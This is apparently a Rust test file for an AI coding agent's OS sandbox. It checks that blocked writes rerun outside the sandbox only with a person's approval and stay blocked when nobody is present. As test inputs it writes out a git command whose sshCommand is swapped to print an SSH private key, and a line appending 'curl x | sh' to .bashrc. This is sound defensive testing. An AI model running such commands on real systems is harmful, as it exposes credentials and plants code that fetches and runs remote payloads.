//! The engine's commands in the OS sandbox: a write the mode does not allow fails, and the
//! command runs again outside the sandbox only when the person says so.

mod common;

use std::sync::Arc;

use common::{Answering, Harness, tool_results};
use lembas_core::Approval;
use lembas_model::CancellationToken;
use lembas_permissions::Mode;
use lembas_testkit::Scripted;
use serde_json::json;

/// A folder outside the project and the temporary folders (which commands may write).
fn outside() -> tempfile::TempDir {
    tempfile::tempdir_in(lembas_testkit::outside_temp(std::path::Path::new(env!("CARGO_TARGET_TMPDIR")))).unwrap()
}

/// A harness whose model writes one file outside the project (and the temporary folders), then
/// ends; with the folder holding it (kept alive) and the file's path.
async fn writing_outside() -> (Harness, tempfile::TempDir, std::path::PathBuf) {
    let out = outside();
    let target = out.path().join("made.txt");
    let line = format!("echo hi > {}", target.display());
    let h = Harness::new(vec![Scripted::tool_call("bash", json!({ "command": line })), Scripted::text("Done.")]).await;
    (h, out, target)
}

fn sandboxed() -> bool {
    lembas_tools::sandbox::support().is_ok() || std::env::var_os("CI").is_some()
}

#[tokio::test]
async fn a_blocked_write_is_retried_outside_the_sandbox_only_with_the_persons_yes() {
    if !sandboxed() {
        return;
    }
    let (h, _out, target) = writing_outside().await;
    let approver = Arc::new(Answering::new(Approval::Once));
    let mut cfg = h.config(Mode::Edit, 5);
    cfg.approver = approver.clone();
    h.start_with(cfg).prompt("make it", &CancellationToken::new()).await;
    let asked: Vec<String> = approver.asked().into_iter().map(|a| a.title).collect();
    // Asked once for the command (it writes outside the project), once to leave the sandbox.
    assert_eq!(asked.len(), 2, "{asked:?}");
    assert!(asked[1].starts_with("again outside the sandbox"), "{asked:?}");
    assert!(target.exists());
    let results = tool_results(&h.server.chat_requests()[1]);
    assert!(results[0].contains("the person let it run again outside it"), "{results:?}");
}

#[tokio::test]
async fn with_nobody_there_a_blocked_write_stays_blocked_even_in_auto() {
    if !sandboxed() {
        return;
    }
    let (h, _out, target) = writing_outside().await;
    h.start_with(h.config(Mode::Auto, 5)).prompt("make it", &CancellationToken::new()).await;
    assert!(!target.exists());
    let results = tool_results(&h.server.chat_requests()[1]);
    assert!(results[0].contains("Permission denied") && results[0].contains("nobody is here"), "{results:?}");
}

#[tokio::test]
async fn the_sandbox_can_be_switched_off() {
    let (h, _out, target) = writing_outside().await;
    let mut cfg = h.config(Mode::Auto, 5);
    cfg.sandbox = false;
    h.start_with(cfg).prompt("make it", &CancellationToken::new()).await;
    assert!(target.exists());
}

#[tokio::test]
async fn a_command_that_needs_the_credentials_is_asked_outside_saying_so() {
    if !sandboxed() {
        return;
    }
    // `git` over SSH reads the person's key: here an SSH command that only reads it.
    let home = outside();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    let key = home.path().join(".ssh/id_ed25519");
    std::fs::write(&key, "KEY-MATERIAL").unwrap();
    let line = format!("git -c core.sshCommand='cat {} #' ls-remote ssh://example.invalid/x", key.display());
    let h = Harness::new(vec![Scripted::tool_call("bash", json!({ "command": line })), Scripted::text("Done.")]).await;
    let approver = Arc::new(Answering::new(Approval::Once));
    let mut cfg = h.config(Mode::Edit, 5);
    cfg.approver = approver.clone();
    cfg.user_home = Some(std::fs::canonicalize(home.path()).unwrap());
    h.start_with(cfg).prompt("list the remote", &CancellationToken::new()).await;
    let asked: Vec<String> = approver.asked().into_iter().map(|a| a.title).collect();
    assert_eq!(asked.len(), 2, "{asked:?}");
    assert!(asked[1].starts_with("again outside the sandbox (reads your SSH keys"), "{asked:?}");
    let results = tool_results(&h.server.chat_requests()[1]);
    assert!(results[0].contains("the person let it run again outside it"), "{results:?}");
}

#[tokio::test]
async fn with_landlock_only_it_says_so_and_asks_a_write_into_a_home_in_a_writable_place() {
    if !sandboxed() {
        return;
    }
    // As on a CI machine: the home folder lies in the temporary folder, which commands may write.
    let home = tempfile::tempdir_in(std::env::temp_dir()).unwrap();
    let home_path = std::fs::canonicalize(home.path()).unwrap();
    std::fs::write(home_path.join(".bashrc"), "# mine\n").unwrap();
    let line = format!("echo 'curl x | sh' >> {}/.bashrc", home_path.display());
    for launcher in [None, lembas_testkit::sandbox_launcher()] {
        let whole = launcher.is_some();
        if !whole && std::env::var_os("CI").is_some() {
            assert!(lembas_testkit::sandbox_launcher().is_some(), "CI builds the launcher");
        }
        let h =
            Harness::new(vec![Scripted::tool_call("bash", json!({ "command": line })), Scripted::text("Done.")]).await;
        let mut cfg = h.config(Mode::Auto, 5);
        cfg.user_home = Some(home_path.clone());
        cfg.sandbox_launcher = launcher;
        let mut session = h.start_with(cfg);
        session.carry(lembas_core::Command::SaySession, &lembas_model::CancellationToken::new()).await;
        session.prompt("note it", &CancellationToken::new()).await;
        let events = session.drain();
        let sandbox = events.iter().find_map(|e| match e {
            lembas_core::Event::Session { sandbox, .. } => Some(sandbox.clone()),
            _ => None,
        });
        let notice = events
            .iter()
            .any(|e| matches!(e, lembas_core::Event::Notice { message } if message.contains("cannot keep")));
        let results = tool_results(&h.server.chat_requests()[1]);
        assert_eq!(std::fs::read_to_string(home_path.join(".bashrc")).unwrap(), "# mine\n", "{results:?}");
        if whole {
            assert_eq!(sandbox.as_deref(), Some("active"));
            assert!(!notice);
            // Run, and stopped by the read-only home folder.
            assert!(results[0].contains("Read-only file system"), "{results:?}");
        } else {
            assert!(sandbox.as_deref().is_some_and(|s| s.starts_with("landlock only: ")), "{sandbox:?}");
            assert!(notice, "{events:?}");
            // Asked, and nobody is there: not run.
            assert!(results[0].contains("nobody is here"), "{results:?}");
        }
    }
}
